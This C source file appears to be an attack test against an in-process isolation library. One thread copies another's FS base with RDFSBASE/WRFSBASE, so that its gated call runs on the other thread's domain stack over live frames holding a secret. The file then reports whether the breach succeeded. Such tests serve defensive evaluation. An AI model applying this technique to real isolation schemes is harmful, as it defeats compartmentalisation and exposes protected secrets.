/* One thread takes another's identity: the gate finds a thread's block
 * (and with it its domain stack) through the FS base, which WRFSBASE lets
 * any thread set.  A second thread sets its FS base to that of a thread
 * that is inside the library (a long call, the secret on the library's
 * stack), then calls the library itself: unchecked, its call runs on the
 * same domain stack, over the first thread's live frames (their return
 * addresses, saved registers and the stack copy of the secret). */
#define _GNU_SOURCE
#include "attack.h"

#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <time.h>

static atomic_uint_least64_t holder_fs;

static void *hold(void *unused)
{
    uint64_t fs;
    __asm__ volatile("rdfsbase %0" : "=r"(fs));
    vault_counter(VAULT_DATA); /* this thread's block and domain stack exist from here */
    atomic_store(&holder_fs, fs);
    vault_hold(3000);
    return NULL;
}

int main(void)
{
    vault_open();
    pthread_t t;
    if (pthread_create(&t, NULL, hold, NULL) != 0)
        exit(2);
    while (!atomic_load(&holder_fs))
        ;
    struct timespec wait = {0, 200 * 1000 * 1000}; /* well inside vault_hold by now */
    nanosleep(&wait, NULL);
    uint64_t own, theirs = atomic_load(&holder_fs);
    __asm__ volatile("rdfsbase %0" : "=r"(own));
    /* From here to the restore, this thread's TLS is the holder's: no libc. */
    __asm__ volatile("wrfsbase %0" ::"r"(theirs) : "memory");
    uint64_t counter = vault_counter(VAULT_BSS);
    __asm__ volatile("wrfsbase %0" ::"r"(own) : "memory");
    if (counter)
        breached("a gated call ran on another thread's domain stack while that thread was inside the library "
                 "(over its live frames), through that thread's FS base");
    blocked("the call through the other thread's identity returned nothing");
}
